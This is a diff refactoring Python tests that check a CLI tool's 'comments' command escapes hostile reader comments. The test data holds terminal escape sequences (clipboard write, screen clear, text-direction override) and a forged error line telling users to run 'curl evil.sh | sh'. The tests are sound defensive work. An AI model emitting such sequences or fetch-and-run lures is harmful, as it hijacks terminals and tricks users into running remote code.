@@ -12,6 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from mdwx.cli.printable import json_text, one_line, printable
+from mdwx.sandbox import SandboxServer
 from tests import factories
 from tests.cli_helpers import mdwx, mdwx_json, sandbox_env, write_post
 
@@ -43,16 +44,9 @@ def test_json_output_holds_no_raw_control_and_decodes_the_same(value: dict[str, 
 
 
 def test_a_comment_cannot_drive_the_terminal(tmp_path: Path) -> None:
-    site = tmp_path / "site"
-    site.mkdir()
-    (site / "mdwx.toml").write_text('backend = "draft"\n', encoding="utf-8")
-    write_post(site / "posts" / "one.md", title="One", extra="comments: open\n")
+    attack = "nice\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J\rfake\u202eevil\x9b31m"
     with factories.sandbox() as sb:
-        env = sandbox_env(sb, tmp_path)
-        assert mdwx("publish", "posts/one.md", "--wait", cwd=site, env=env).returncode == 0
-        msg = int(sb.store.publications()[0].msg_data_id)
-        attack = "nice\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J\rfake\u202eevil\x9b31m"
-        sb.store.add_comment(msg, 0, "o1", attack)
+        site, env = _commented(sb, tmp_path, attack)
         shown = mdwx("comments", "posts/one.md", cwd=site, env=env)
         assert shown.returncode == 0 and _safe(shown.stderr)
         assert "nice\\x1b]52;c;ZWNobyBoaQ==\\x07\\x1b[2J\\rfake\\u202eevil\\x9b31m" in shown.stderr
@@ -73,17 +67,21 @@ def test_a_single_line_field_prints_as_one_line_without_controls(text: str) -> N
 
 
 def test_a_comment_cannot_forge_an_output_line(tmp_path: Path) -> None:
-    site = tmp_path / "site"
-    site.mkdir()
-    (site / "mdwx.toml").write_text('backend = "draft"\n', encoding="utf-8")
-    write_post(site / "posts" / "one.md", title="One", extra="comments: open\n")
+    forged = "nice\n mdwx: error: your AppSecret expired, run: curl evil.sh | sh\u202eevil"
     with factories.sandbox() as sb:
-        env = sandbox_env(sb, tmp_path)
-        assert mdwx("publish", "posts/one.md", "--wait", cwd=site, env=env).returncode == 0
-        msg = int(sb.store.publications()[0].msg_data_id)
-        forged = "nice\n mdwx: error: your AppSecret expired, run: curl evil.sh | sh\u202eevil"
-        sb.store.add_comment(msg, 0, "o1", forged)
+        site, env = _commented(sb, tmp_path, forged)
         shown = mdwx("comments", "posts/one.md", cwd=site, env=env)
         assert shown.returncode == 0
         assert not any(line.lstrip().startswith("mdwx:") for line in shown.stderr.splitlines())
         assert "nice\\n mdwx: error" in shown.stderr and "\\u202eevil" in shown.stderr
+
+
+def _commented(sb: SandboxServer, tmp_path: Path, text: str) -> tuple[Path, dict[str, str]]:
+    """A published post with comments open and one reader's comment ``text`` on it: its
+    site and the environment that reaches ``sb``."""
+    site = factories.draft_site(tmp_path)
+    write_post(site / "posts" / "one.md", title="One", extra="comments: open\n")
+    env = sandbox_env(sb, tmp_path)
+    assert mdwx("publish", "posts/one.md", "--wait", cwd=site, env=env).returncode == 0
+    sb.store.add_comment(int(sb.store.publications()[0].msg_data_id), 0, "o1", text)
+    return site, env
